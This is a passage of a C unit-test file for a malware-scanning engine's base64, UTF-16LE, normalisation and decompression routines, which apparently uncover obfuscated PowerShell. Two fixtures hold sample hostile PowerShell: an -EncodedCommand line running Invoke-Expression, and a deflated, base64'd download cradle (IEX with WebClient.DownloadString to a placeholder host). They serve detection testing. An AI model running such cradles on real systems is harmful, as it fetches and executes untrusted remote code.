    assert_int_equal(s.off, 8);
    free(p);

    /* Padding without a long enough run before it is no run; '=' alone neither. */
    p = dup_exact("abcdef== ========", 17);
    pos = 0;
    assert_false(engine__base64_next(p, 17, &pos, 8, &s));
    free(p);
}

/* Every byte value at several places of a long run: the vector classifiers agree with the alphabet.
 */
static void test_b64_next_every_byte(void **state)
{
    (void)state;
    for (unsigned b = 0; b < 256; b++) {
        bool alpha = (b >= 'A' && b <= 'Z') || (b >= 'a' && b <= 'z') || (b >= '0' && b <= '9') ||
                     b == '+' || b == '/';
        static const size_t places[] = {0, 15, 16, 31, 40, 63, 79};
        for (size_t k = 0; k < sizeof places / sizeof places[0]; k++) {
            uint8_t buf[80];
            memset(buf, 'Q', sizeof buf);
            buf[places[k]] = (uint8_t)b;
            uint8_t *p = dup_exact(buf, sizeof buf);
            size_t pos = 0;
            engine__span sp;
            bool found = engine__base64_next(p, sizeof buf, &pos, sizeof buf, &sp);
            if (found != alpha)
                fail_msg("byte 0x%02X at %zu: found %d", b, places[k], (int)found);
            free(p);
        }
    }
}

static void test_b64_next_vs_naive(void **state)
{
    static const char seps[] = " \t\n.,;'\"(=$";
    rng r = {0x5EED0001};
    size_t iter, found = 0;

    (void)state;
    for (iter = 0; iter < 3000; iter++) {
        size_t n = rng_below(&r, 600), min_run = 4 + rng_below(&r, 40), i = 0;
        uint8_t *buf = malloc(n ? n : 1);
        uint8_t *p;

        assert_non_null(buf);
        if (iter % 2 == 0) {
            /* Alternating runs of alphabet characters and separators, around min_run long. */
            while (i < n) {
                size_t run = rng_below(&r, 2 * min_run + 2), sep = 1 + rng_below(&r, 3), k;
                const char *abc = rng_below(&r, 2) ? b64_std : b64_url;

                for (k = 0; k < run && i < n; k++)
                    buf[i++] = (uint8_t)abc[rng_below(&r, 64)];
                for (k = 0; k < sep && i < n; k++)
                    buf[i++] = (uint8_t)seps[rng_below(&r, sizeof seps - 1)];
            }
        } else {
            /* Independent bytes, mostly alphabet, with a varying share of separators. */
            size_t share = 1 + rng_below(&r, 30);

            for (i = 0; i < n; i++) {
                if (rng_below(&r, 100) < share)
                    buf[i] = (uint8_t)(rng_below(&r, 4) == 0
                                           ? rng_next(&r)
                                           : (uint64_t)seps[rng_below(&r, sizeof seps - 1)]);
                else
                    buf[i] = (uint8_t)b64_std[rng_below(&r, 64)];
            }
        }
        p = dup_exact(buf, n);
        found += compare_runs(p, n, 0, min_run);
        compare_runs(p, n, rng_below(&r, n + 1), min_run);
        free(p);
        free(buf);
    }
    /* The generator must actually have produced runs to compare. */
    assert_true(found > 1000);
}

/* ---------------------------------------------------------------------------------------------
 * engine__base64_decode
 * ------------------------------------------------------------------------------------------- */

static void test_b64_decode_basic(void **state)
{
    static const uint8_t fb[] = {0xFB, 0xFF, 0xBF};

    (void)state;
    check_decode("TWFu", "Man", 3);
    check_decode("TWE=", "Ma", 2);
    check_decode("TWE", "Ma", 2);
    check_decode("TQ==", "M", 1);
    check_decode("TQ", "M", 1);
    check_decode("T", "", 0);
    check_decode("", "", 0);
    check_decode("SGVsbG8gV29ybGQh", "Hello World!", 12);
    /* Both alphabets, mixed freely. */
    check_decode("+/+/", fb, 3);
    check_decode("-_-_", fb, 3);
    check_decode("+_-/", fb, 3);
    /* Decoding stops at the first character outside the alphabet, '=' included. */
    check_decode("TWFu!TWFu", "Man", 3);
    check_decode("TWFuTW FuTWFu", "ManM", 4);
    check_decode("TQ==TWFu", "M", 1);
    check_decode("TWFu\nTWFu", "Man", 3);
    check_decode("=TWFu", "", 0);
    check_decode("TW\x80u", "M", 1);
}

static void test_b64_decode_cap(void **state)
{
    static const char in[] = "SGVsbG8gV29ybGQhIQ";
    static const char want[] = "Hello World!!";
    size_t n = sizeof in - 1, cap;
    uint8_t buf[4];

    (void)state;
    for (cap = 0; cap <= 16; cap++) {
        uint8_t *src = dup_exact(in, n);
        uint8_t *out = malloc(cap ? cap : 1);
        size_t r;

        assert_non_null(out);
        r = engine__base64_decode(src, n, out, cap);
        assert_int_equal(r, cap < 13 ? cap : 13);
        if (r > 0)
            assert_memory_equal(out, want, r);
        free(out);
        free(src);
    }
    assert_int_equal(engine__base64_decode(NULL, 0, buf, sizeof buf), 0);
    assert_int_equal(engine__base64_decode((const uint8_t *)"TWFu", 4, NULL, 0), 0);
}

static void test_b64_roundtrip(void **state)
{
    rng r = {0x5EED0002};
    uint8_t data[200], out[200];
    char text[300];
    size_t n;

    (void)state;
    for (n = 0; n < sizeof data; n++) {
        int variant;

        for (size_t i = 0; i < n; i++)
            data[i] = (uint8_t)rng_next(&r);
        for (variant = 0; variant < 4; variant++) {
            size_t tn = b64_encode(data, n, variant & 1 ? b64_url : b64_std, variant & 2, text);
            uint8_t *src = dup_exact(text, tn);
            size_t got = engine__base64_decode(src, tn, out, sizeof out);

            assert_int_equal(got, n);
            if (n > 0)
                assert_memory_equal(out, data, n);
            free(src);
        }
    }
}

/* The -EncodedCommand path end to end: find the run, decode it, see UTF-16LE, narrow it. */
static void test_encoded_command(void **state)
{
    static const char script[] = "Write-Host 'pwned'; Invoke-Expression $payload";
    uint8_t wide[200], decoded[200], narrow[200];
    char b64[300], line[512];
    size_t wn, bn, ln, pos = 0, dn, nn;
    engine__span s;
    uint8_t *p;

    (void)state;
    wn = utf16le_from_ascii(script, wide);
    bn = b64_encode(wide, wn, b64_std, true, b64);
    ln = (size_t)snprintf(line, sizeof line,
                          "powershell.exe -NoProfile -EncodedCommand %s ; exit $LASTEXITCODE", b64);
    p = dup_exact(line, ln);
    assert_true(engine__base64_next(p, ln, &pos, 16, &s));
    assert_int_equal(s.len, bn);
    assert_memory_equal(p + s.off, b64, bn);
    dn = engine__base64_decode(p + s.off, s.len, decoded, sizeof decoded);
    assert_int_equal(dn, wn);
    assert_true(engine__utf16le_detect(decoded, dn, false));
    nn = engine__utf16le_narrow(decoded, dn, narrow, sizeof narrow);
    assert_int_equal(nn, sizeof script - 1);
    assert_memory_equal(narrow, script, nn);
    assert_false(engine__base64_next(p, ln, &pos, 16, &s));
    free(p);
}

/* A deflated, base64'd payload as PowerShell droppers carry it: find, decode, inflate. */
static void test_encoded_deflate(void **state)
{
    static const char payload[] =
        "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x')";
    uint8_t blob[256], *decoded, *out = NULL;
    char b64[512];
    size_t blen, bn, pos = 0, dn, out_len = 0;
    engine__span s;
    engine__codec codec;
    bool truncated;

    (void)state;
    blen = deflate_with((const uint8_t *)payload, sizeof payload - 1, -15, blob, sizeof blob);
    bn = b64_encode(blob, blen, b64_std, true, b64);
    assert_true(engine__base64_next((const uint8_t *)b64, bn, &pos, 32, &s));
    decoded = malloc(s.len);
    assert_non_null(decoded);
    dn = engine__base64_decode((const uint8_t *)b64 + s.off, s.len, decoded, s.len);
    assert_int_equal(dn, blen);
    assert_int_equal(engine__decompress(decoded, dn, 1 << 20, &out, &out_len, &codec, &truncated),
                     0);
    assert_int_equal(codec, ENGINE__CODEC_DEFLATE);
    assert_false(truncated);
    assert_int_equal(out_len, sizeof payload - 1);
    assert_memory_equal(out, payload, out_len);
    free(out);
    free(decoded);
}

/* ---------------------------------------------------------------------------------------------
 * engine__decompress and engine__codec_name
 * ------------------------------------------------------------------------------------------- */

static const engine__codec all_codecs[] = {ENGINE__CODEC_DEFLATE, ENGINE__CODEC_ZLIB,
                                           ENGINE__CODEC_GZIP, ENGINE__CODEC_XZ};

static void test_codec_name(void **state)
{
    (void)state;
    assert_string_equal(engine__codec_name(ENGINE__CODEC_NONE), "");
    assert_string_equal(engine__codec_name(ENGINE__CODEC_DEFLATE), "deflate");
    assert_string_equal(engine__codec_name(ENGINE__CODEC_ZLIB), "zlib");
    assert_string_equal(engine__codec_name(ENGINE__CODEC_GZIP), "gzip");
    assert_string_equal(engine__codec_name(ENGINE__CODEC_XZ), "xz");
    assert_string_equal(engine__codec_name((engine__codec)99), "");
}

/* Decompresses blob with max_out and checks rc, codec, truncation and the bytes against want. */
static void check_decompress(const uint8_t *blob, size_t blen, size_t max_out, engine__codec codec,
                             const uint8_t *want, size_t want_len, bool want_truncated)
{
    uint8_t *src = dup_exact(blob, blen), *out = (uint8_t *)&out;
    size_t out_len = 12345;
    engine__codec got = ENGINE__CODEC_NONE;
    bool truncated = !want_truncated;

    assert_int_equal(engine__decompress(src, blen, max_out, &out, &out_len, &got, &truncated), 0);
    assert_int_equal(got, codec);
    assert_int_equal(truncated, want_truncated);
    assert_int_equal(out_len, want_len);
    if (want_len == 0) {
        assert_null(out);
    } else {
        assert_non_null(out);
        assert_memory_equal(out, want, want_len);
    }
    free(out);
    free(src);
}

static void test_decompress_roundtrip(void **state)
{
    char *script = malloc(20000);
    size_t n, i;

    (void)state;
    assert_non_null(script);
    n = make_script(script, 20000);
    for (i = 0; i < sizeof all_codecs / sizeof all_codecs[0]; i++) {
        size_t blen;
        uint8_t *blob = compress_as(all_codecs[i], (uint8_t *)script, n, 6, &blen);

        assert_true(blen < n / 4);
        check_decompress(blob, blen, 1 << 20, all_codecs[i], (uint8_t *)script, n, false);
        check_decompress(blob, blen, SIZE_MAX, all_codecs[i], (uint8_t *)script, n, false);
        /* Exactly enough room is not a truncation; one byte less is. */
        check_decompress(blob, blen, n, all_codecs[i], (uint8_t *)script, n, false);
        check_decompress(blob, blen, n - 1, all_codecs[i], (uint8_t *)script, n - 1, true);
        free(blob);
    }
    free(script);
}

static void test_decompress_truncation(void **state)
{
    char *script = malloc(20000);
    size_t n, i;

    (void)state;
    assert_non_null(script);
    n = make_script(script, 20000);
    for (i = 0; i < sizeof all_codecs / sizeof all_codecs[0]; i++) {
        size_t blen;
        uint8_t *blob = compress_as(all_codecs[i], (uint8_t *)script, n, 6, &blen);

        check_decompress(blob, blen, 1000, all_codecs[i], (uint8_t *)script, 1000, true);
        check_decompress(blob, blen, 16, all_codecs[i], (uint8_t *)script, 16, true);
        /* Below the 16-byte check the stream is still verified, then cut. */
        check_decompress(blob, blen, 5, all_codecs[i], (uint8_t *)script, 5, true);
        /* Nothing fits: recognised and truncated, but no buffer. */
        check_decompress(blob, blen, 0, all_codecs[i], NULL, 0, true);
        free(blob);
    }
    free(script);
}

static void test_decompress_small(void **state)
{
    static const char hi[] = "hi there";
    size_t i;

    (void)state;
    /* Under 16 bytes but ending properly is accepted. */
    for (i = 0; i < sizeof all_codecs / sizeof all_codecs[0]; i++) {
        size_t blen;
        uint8_t *blob = compress_as(all_codecs[i], (const uint8_t *)hi, sizeof hi - 1, 6, &blen);

        check_decompress(blob, blen, 100, all_codecs[i], (const uint8_t *)hi, sizeof hi - 1, false);
        check_decompress(blob, blen, 3, all_codecs[i], (const uint8_t *)hi, 3, true);
        free(blob);
    }
}

static void test_decompress_cut_stream(void **state)
{
    char *script = malloc(20000);
    size_t n, i;

    (void)state;
    assert_non_null(script);
    n = make_script(script, 20000);
    for (i = 0; i < sizeof all_codecs / sizeof all_codecs[0]; i++) {
        size_t blen, out_len;
        uint8_t *blob = compress_as(all_codecs[i], (uint8_t *)script, n, 0, &blen);
        uint8_t *src = dup_exact(blob, blen / 2), *out;
        engine__codec codec;
        bool truncated;

        /* Half a stream gives what it holds: more than 16 bytes, a prefix, not truncated. */
        assert_int_equal(
            engine__decompress(src, blen / 2, 1 << 20, &out, &out_len, &codec, &truncated), 0);
        assert_int_equal(codec, all_codecs[i]);
        assert_false(truncated);
        assert_true(out_len >= 16 && out_len < n);
        assert_memory_equal(out, script, out_len);
        free(out);
        free(src);

        /* A few bytes of a stream are not enough. */
        src = dup_exact(blob, 4);
        assert_int_equal(engine__decompress(src, 4, 1 << 20, &out, &out_len, &codec, &truncated),
                         -1);
        assert_null(out);
        assert_int_equal(out_len, 0);
        assert_int_equal(codec, ENGINE__CODEC_NONE);
        free(src);
        free(blob);
    }
    free(script);
}

/*
 * Raw deflate made of stored blocks (level 0) decodes; the same stream with its length's
 * complement broken, or with the reserved block type, is refused before zlib is asked.
 */
static void test_decompress_stored_deflate(void **state)
{
    rng r = {0x5EED0004};
    uint8_t raw[300], blob[400], *out;
    size_t out_len;
    engine__codec codec;
    bool truncated;
    z_stream zs;

    (void)state;
    for (size_t i = 0; i < sizeof raw; i++)
        raw[i] = (uint8_t)rng_next(&r);
    memset(&zs, 0, sizeof zs);
    assert_int_equal(deflateInit2(&zs, 0, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
    zs.next_in = raw;
    zs.avail_in = sizeof raw;
    zs.next_out = blob;
    zs.avail_out = sizeof blob;
    assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
    size_t blen = (size_t)zs.total_out;
    assert_int_equal(deflateEnd(&zs), Z_OK);
    assert_int_equal((blob[0] >> 1) & 3, 0);
    check_decompress(blob, blen, 1 << 20, ENGINE__CODEC_DEFLATE, raw, sizeof raw, false);

    uint8_t *bad = dup_exact(blob, blen);
    bad[3] ^= 0x01;
    assert_int_equal(engine__decompress(bad, blen, 1 << 20, &out, &out_len, &codec, &truncated),
                     -1);
    assert_null(out);
    bad[3] ^= 0x01;
    bad[0] |= 0x06;
    assert_int_equal(engine__decompress(bad, blen, 1 << 20, &out, &out_len, &codec, &truncated),
                     -1);
    assert_null(out);
    free(bad);
}

static void test_decompress_rejects_random(void **state)
{
    static const uint8_t prefixes[][6] = {
        {0}, {0x78, 0x9C}, {0x78, 0xDA}, {0x1F, 0x8B, 0x08}, {0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00}};
    static const size_t prefix_len[] = {0, 2, 2, 3, 6};
    rng r = {0x5EED0003};
    size_t iter, accepted = 0, total = 0, k;

    (void)state;
    for (k = 0; k < sizeof prefix_len / sizeof prefix_len[0]; k++) {
        for (iter = 0; iter < 1000; iter++) {
            size_t n = 16 + rng_below(&r, 1024), i, out_len;
            uint8_t *p = malloc(n), *out;
            engine__codec codec;
            bool truncated;
            int rc;

            assert_non_null(p);
            for (i = 0; i < n; i++)
                p[i] = (uint8_t)rng_next(&r);
            memcpy(p, prefixes[k], prefix_len[k]);
            rc = engine__decompress(p, n, 1 << 20, &out, &out_len, &codec, &truncated);
            assert_true(rc == 0 || rc == -1);
            if (rc == 0) {
                accepted++;
                assert_true(out_len > 0 && out_len <= (1 << 20));
                free(out);
            } else {
                assert_null(out);
            }
            total++;
            free(p);
        }
        print_message("random blobs after prefix %zu accepted: %zu of %zu\n", k, accepted, total);
        /*
         * With no magic (raw deflate), or a gzip or xz one, well under 0.5 % pass. After a zlib
         * header a random body passes about one time in fifty, since a zlib stream that breaks
         * after 16 bytes still yields them; a random blob has a valid zlib header about one time
         * in 2000, so that costs little.
         */
        if (prefix_len[k] == 2)
            assert_true(accepted * 20 < total);
        else
            assert_true(accepted * 200 < total);
        accepted = 0;
        total = 0;
    }
}

/*
 * Builds a stored block of len bytes of 0x9A (final or not) at p; returns its size. Not text:
 * a stored block of text is refused on purpose (its bytes are visible undecoded anyway).
 */
static size_t stored_block(uint8_t *p, size_t len, bool final)
{
    p[0] = final ? 0x01 : 0x00;
    p[1] = (uint8_t)len;
    p[2] = (uint8_t)(len >> 8);
    p[3] = (uint8_t)~len;
    p[4] = (uint8_t)(~len >> 8);
    memset(p + 5, 0x9A, len);
    return 5 + len;
}

static void test_decompress_broken(void **state)
{
    uint8_t blob[300], want[100], *p, *out;
    size_t n, out_len;
    engine__codec codec;
    bool truncated;

    (void)state;
    memset(want, 0x9A, sizeof want);

    /* Raw deflate: 100 good bytes, then a block of the reserved type 3. Any error rejects. */
    n = stored_block(blob, 100, false);
    blob[n++] = 0x07;
    p = dup_exact(blob, n);
    assert_int_equal(engine__decompress(p, n, 1000, &out, &out_len, &codec, &truncated), -1);
    assert_null(out);
    free(p);

    /* The same after a zlib header: the header vouches for it, so the 100 bytes count. */
    blob[0] = 0x78;
    blob[1] = 0x01;
    n = 2 + stored_block(blob + 2, 100, false);
    blob[n++] = 0x07;
    check_decompress(blob, n, 1000, ENGINE__CODEC_ZLIB, want, 100, false);

    /* A raw stream cut short gives what it holds, if that is 16 bytes or more. */
    n = stored_block(blob, 100, true);
    check_decompress(blob, n - 50, 1000, ENGINE__CODEC_DEFLATE, want, 50, false);
    p = dup_exact(blob, 20);
    assert_int_equal(engine__decompress(p, 20, 1000, &out, &out_len, &codec, &truncated), -1);
    free(p);
    check_decompress(blob, 21, 1000, ENGINE__CODEC_DEFLATE, want, 16, false);

    /* A short raw stream that ends properly must use all the input. */
    n = stored_block(blob, 5, true);
    check_decompress(blob, n, 1000, ENGINE__CODEC_DEFLATE, want, 5, false);
    blob[n] = 0x55;
    p = dup_exact(blob, n + 1);
    assert_int_equal(engine__decompress(p, n + 1, 1000, &out, &out_len, &codec, &truncated), -1);
    free(p);

    /* A stored block of text is text: not tried, its bytes are scanned as they are. */
    n = stored_block(blob, 100, true);
    memset(blob + 5, 'A', 100);
    p = dup_exact(blob, n);
    assert_int_equal(engine__decompress(p, n, 1000, &out, &out_len, &codec, &truncated), -1);
    assert_null(out);
    free(p);
}

static void test_decompress_bad_checksum(void **state)
{
    char *script = malloc(20000);
    size_t n, blen;
    uint8_t *blob;

    (void)state;
    assert_non_null(script);
    n = make_script(script, 20000);
    /* zlib with a wrong Adler-32, gzip with a wrong CRC-32: all the output is still scanned. */
    blob = compress_as(ENGINE__CODEC_ZLIB, (uint8_t *)script, n, 0, &blen);
    blob[blen - 1] ^= 0x5A;
    check_decompress(blob, blen, 1 << 20, ENGINE__CODEC_ZLIB, (uint8_t *)script, n, false);
    free(blob);
    blob = compress_as(ENGINE__CODEC_GZIP, (uint8_t *)script, n, 0, &blen);
    blob[blen - 6] ^= 0x5A;
    check_decompress(blob, blen, 1 << 20, ENGINE__CODEC_GZIP, (uint8_t *)script, n, false);
    free(blob);
    free(script);
}

static void test_decompress_bad_args(void **state)
{
    static const uint8_t one[] = {0x03};
    uint8_t *out = (uint8_t *)&out;
    size_t out_len = 7;
    engine__codec codec = ENGINE__CODEC_XZ;
    bool truncated = true;

    (void)state;
    assert_int_equal(engine__decompress(one, 0, 100, &out, &out_len, &codec, &truncated), -1);
    assert_null(out);
    assert_int_equal(out_len, 0);
    assert_int_equal(codec, ENGINE__CODEC_NONE);
    assert_false(truncated);
    assert_int_equal(engine__decompress(NULL, 0, 100, &out, &out_len, &codec, &truncated), -1);
    assert_int_equal(engine__decompress(NULL, 5, 100, &out, &out_len, &codec, &truncated), -1);
    assert_int_equal(engine__decompress(one, 1, 100, NULL, &out_len, &codec, &truncated), -1);
    assert_int_equal(engine__decompress(one, 1, 100, &out, NULL, &codec, &truncated), -1);
    assert_int_equal(engine__decompress(one, 1, 100, &out, &out_len, NULL, &truncated), -1);
    assert_int_equal(engine__decompress(one, 1, 100, &out, &out_len, &codec, NULL), -1);
    /* 03 00 is a whole, empty raw deflate stream: nothing to scan, so not a stream. */
    {
        static const uint8_t empty_deflate[] = {0x03, 0x00};
        uint8_t *src = dup_exact(empty_deflate, sizeof empty_deflate);

        assert_int_equal(
            engine__decompress(src, sizeof empty_deflate, 100, &out, &out_len, &codec, &truncated),
            -1);
        assert_null(out);
        free(src);
    }
}

/* ---------------------------------------------------------------------------------------------
 * Robustness: random inputs through everything
 * ------------------------------------------------------------------------------------------- */

/* Fills p[0..n) with bytes that tend to reach the interesting paths of every function. */
static void fill_spicy(rng *r, uint8_t *p, size_t n)
{
    static const uint8_t spicy[] = {'`',  '\'', '"',  '+',  ' ',  '\t', '\r', '\n', '\v', '\f',
                                    'A',  'z',  '0',  '/',  '-',  '_',  '=',  0x00, 0xFF, 0xFE,
                                    0xD8, 0xDB, 0xDC, 0xDF, 0x80, 0xC3, 0x1F, 0x8B, 0x78, 0x9C};
    size_t mode = rng_below(r, 3), i;

    for (i = 0; i < n; i++) {
        if (mode == 0)
            p[i] = (uint8_t)rng_next(r);
        else if (mode == 1)
            p[i] = spicy[rng_below(r, sizeof spicy)];
        else
            p[i] = (uint8_t)(i % 2 ? 0 : rng_next(r));
    }
}

/* A cap chosen among 0, 1, 2, 3, a random value up to bound, and bound itself. */
static size_t pick_cap(rng *r, size_t bound)
{
    switch (rng_below(r, 6)) {
    case 0:
        return 0;
    case 1:
        return 1;
    case 2:
        return 2;
    case 3:
        return 3;
    case 4:
        return rng_below(r, bound + 1);
    default:
        return bound;
    }
}

static void robust_text(rng *r, const uint8_t *p, size_t n)
{
    size_t bound = n / 2 * 3, cap, got, full_len, pos, last;
    uint8_t *full, *out;
    engine__span s;

    (void)engine__utf16le_detect(p, n, false);
    (void)engine__utf16le_detect(p, n, true);

    /* Narrowing: n/2*3 suffices, the result is valid UTF-8, a smaller cap gives a prefix. */
    full = malloc(bound ? bound : 1);
    assert_non_null(full);
    full_len = engine__utf16le_narrow(p, n, full, bound);
    assert_true(full_len <= bound);
    out = malloc(2 * n + 4);
    assert_non_null(out);
    assert_int_equal(engine__utf16le_narrow(p, n, out, 2 * n + 4), full_len);
    free(out);
    assert_true(utf8_valid(full, full_len));
    cap = pick_cap(r, bound);
    out = malloc(cap ? cap : 1);
    assert_non_null(out);
    got = engine__utf16le_narrow(p, n, out, cap);
    assert_true(got <= cap && got <= full_len);
    assert_true(utf8_valid(out, got));
    if (got > 0)
        assert_memory_equal(out, full, got);
    assert_true(cap < full_len || got == full_len);
    free(out);
    free(full);

    /* Normalising: never longer than the input, a smaller cap gives a prefix. */
    full = malloc(n ? n : 1);
    assert_non_null(full);
    full_len = engine__normalize(p, n, full, n);
    assert_true(full_len <= n);
    cap = pick_cap(r, n);
    out = malloc(cap ? cap : 1);
    assert_non_null(out);
    got = engine__normalize(p, n, out, cap);
    assert_int_equal(got, cap < full_len ? cap : full_len);
    if (got > 0)
        assert_memory_equal(out, full, got);
    free(out);
    free(full);

    /* Base64 runs agree with the reference; each decodes within its cap. */
    compare_runs(p, n, rng_below(r, n + 1), rng_below(r, 24));
    pos = 0;
    last = 0;
    while (engine__base64_next(p, n, &pos, 8, &s)) {
        assert_true(s.off >= last && s.len >= 8 && s.off + s.len <= n && pos == s.off + s.len);
        last = pos;
        cap = pick_cap(r, s.len * 3 / 4 + 1);
        out = malloc(cap ? cap : 1);
        assert_non_null(out);
        got = engine__base64_decode(p + s.off, s.len, out, cap);
        assert_true(got <= cap);
        free(out);
    }
    cap = pick_cap(r, n);
    out = malloc(cap ? cap : 1);
    assert_non_null(out);
    got = engine__base64_decode(p, n, out, cap);
    assert_true(got <= cap && got <= n * 3 / 4 + 1);
    free(out);
}

static void robust_decompress(rng *r, const uint8_t *p, size_t n)
{
    size_t max_out = pick_cap(r, 4096), out_len = 99;
    uint8_t *out = (uint8_t *)&out;
    engine__codec codec = ENGINE__CODEC_NONE;
    bool truncated = false;
    unsigned sum = 0;
    int rc;

    if (rng_below(r, 8) == 0)
        max_out = SIZE_MAX;
    rc = engine__decompress(p, n, max_out, &out, &out_len, &codec, &truncated);
    assert_true(rc == 0 || rc == -1);
    if (rc == 0) {
        assert_true(codec != ENGINE__CODEC_NONE);
        assert_true(out_len <= max_out);
        assert_true((out == NULL) == (out_len == 0));
        assert_true(out_len > 0 || truncated);
        /* Read every byte, so ASan checks the length. */
        for (size_t i = 0; i < out_len; i++)
            sum += out[i];
        (void)sum;
        free(out);
    } else {
        assert_null(out);
        assert_int_equal(out_len, 0);
        assert_int_equal(codec, ENGINE__CODEC_NONE);
        assert_false(truncated);
    }
}

/*
 * engine__deflate_impossible() refuses only what zlib fails on before 17 bytes of output (checked
 * on random blobs, about nine in ten of which it refuses here), and never a real deflate stream.
 */
static void test_deflate_impossible_is_exact(void **state)
{
    (void)state;
    rng r = {7};
    unsigned refused = 0, tried = 200000;
    for (unsigned t = 0; t < tried; t++) {
        uint8_t in[48], out[4096];
        size_t n = t % 8 ? 10 + t % (sizeof(in) - 9) : 1 + t % 9; /* mostly 10 bytes and up */
        for (size_t i = 0; i < n; i++)
            in[i] = (uint8_t)rng_next(&r);
        if (!engine__deflate_impossible(in, n))
            continue;
        refused++;
        z_stream z;
        memset(&z, 0, sizeof(z));
        assert_int_equal(inflateInit2(&z, -15), Z_OK);
        z.next_in = in;
        z.avail_in = (uInt)n;
        z.next_out = out;
        z.avail_out = sizeof(out);
        int rc = inflate(&z, Z_NO_FLUSH);
        /* An error before 17 bytes (engine__decompress()'s least output bound is 17), or no
         * output at all when the input ran out. */
        bool fails = (rc == Z_DATA_ERROR && z.total_out <= 16) ||
                     (z.total_out == 0 && (rc == Z_BUF_ERROR || rc == Z_OK));
        if (!fails)
            fail_msg("blob %u (%zu bytes): refused, but zlib gave %d with %lu bytes", t, n, rc,
                     z.total_out);
        inflateEnd(&z);
    }
    assert_true(refused > tried / 100 * 85);
    /* Real streams, every level and strategy, text and binary: never refused. */
    static const int strategies[] = {Z_DEFAULT_STRATEGY, Z_FILTERED, Z_HUFFMAN_ONLY, Z_RLE,
                                     Z_FIXED};
    static uint8_t src[20000], dst[40000];
    for (size_t kind = 0; kind < 2; kind++) {
        for (size_t i = 0; i < sizeof(src); i++)
            src[i] = kind ? (uint8_t)rng_next(&r) : (uint8_t) "if ($a -eq 1) { iex $b }\n"[i % 26];
        for (int level = 0; level <= 9; level++)
            for (size_t st = 0; st < sizeof(strategies) / sizeof(strategies[0]); st++)
                for (size_t len = 1; len <= sizeof(src); len *= 7) {
                    z_stream z;
                    memset(&z, 0, sizeof(z));
                    assert_int_equal(deflateInit2(&z, level, Z_DEFLATED, -15, 8, strategies[st]),
                                     Z_OK);
                    z.next_in = src;
                    z.avail_in = (uInt)len;
                    z.next_out = dst;
                    z.avail_out = sizeof(dst);
                    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
                    if (engine__deflate_impossible(dst, z.total_out))
                        fail_msg("level %d strategy %d, %zu bytes: a real stream refused", level,
                                 strategies[st], len);
                    deflateEnd(&z);
                }
    }
}

static void test_robustness(void **state)
{
    rng r = {0x5EED0004};
    char *script = malloc(8000);
    uint8_t *streams[4];
    size_t stream_len[4], script_len, iter, i;

    (void)state;
    assert_non_null(script);
    script_len = make_script(script, 8000);
    for (i = 0; i < 4; i++)
        streams[i] = compress_as(all_codecs[i], (uint8_t *)script, script_len, 0, &stream_len[i]);

    for (iter = 0; iter < 4000; iter++) {
        size_t n = rng_below(&r, 4) == 0 ? rng_below(&r, 24) : rng_below(&r, 2048);
        uint8_t *buf = malloc(n ? n : 1), *p;

        assert_non_null(buf);
        fill_spicy(&r, buf, n);
        p = dup_exact(buf, n);
        robust_text(&r, p, n);
        robust_decompress(&r, p, n);
        free(p);

        /* A valid stream, cut short and with a few bytes changed. */
        i = rng_below(&r, 4);
        n = rng_below(&r, 4) == 0 ? stream_len[i] : rng_below(&r, stream_len[i]);
        free(buf);
        buf = dup_exact(streams[i], stream_len[i]);
        for (size_t k = rng_below(&r, 4); k > 0 && n > 0; k--)
            buf[rng_below(&r, n)] ^= (uint8_t)(1 + rng_below(&r, 255));
        p = dup_exact(buf, n);
        robust_decompress(&r, p, n);
        free(p);
        free(buf);
    }
    for (i = 0; i < 4; i++)
        free(streams[i]);
    free(script);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_detect_bom),
        cmocka_unit_test(test_detect_hint),
        cmocka_unit_test(test_detect_nul_ratio),
        cmocka_unit_test(test_detect_short_and_odd),
        cmocka_unit_test(test_detect_prefix_only),
        cmocka_unit_test(test_narrow_basic),
        cmocka_unit_test(test_narrow_surrogates),
        cmocka_unit_test(test_narrow_odd_and_empty),
        cmocka_unit_test(test_narrow_cap),
        cmocka_unit_test(test_normalize_backticks),
        cmocka_unit_test(test_normalize_concat),
        cmocka_unit_test(test_normalize_case_and_space),
        cmocka_unit_test(test_normalize_cap),
        cmocka_unit_test(test_normalize_vs_naive),
        cmocka_unit_test(test_b64_next_runs),
        cmocka_unit_test(test_b64_next_bounds),
        cmocka_unit_test(test_b64_next_vs_naive),
        cmocka_unit_test(test_b64_next_every_byte),
        cmocka_unit_test(test_b64_decode_basic),
        cmocka_unit_test(test_b64_decode_cap),
        cmocka_unit_test(test_b64_roundtrip),
        cmocka_unit_test(test_encoded_command),
        cmocka_unit_test(test_encoded_deflate),
        cmocka_unit_test(test_codec_name),
        cmocka_unit_test(test_decompress_roundtrip),
        cmocka_unit_test(test_decompress_truncation),
        cmocka_unit_test(test_decompress_small),
        cmocka_unit_test(test_decompress_cut_stream),
        cmocka_unit_test(test_decompress_stored_deflate),
        cmocka_unit_test(test_decompress_rejects_random),
        cmocka_unit_test(test_decompress_broken),
        cmocka_unit_test(test_decompress_bad_checksum),
        cmocka_unit_test(test_decompress_bad_args),
        cmocka_unit_test(test_deflate_impossible_is_exact),
        cmocka_unit_test(test_robustness),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
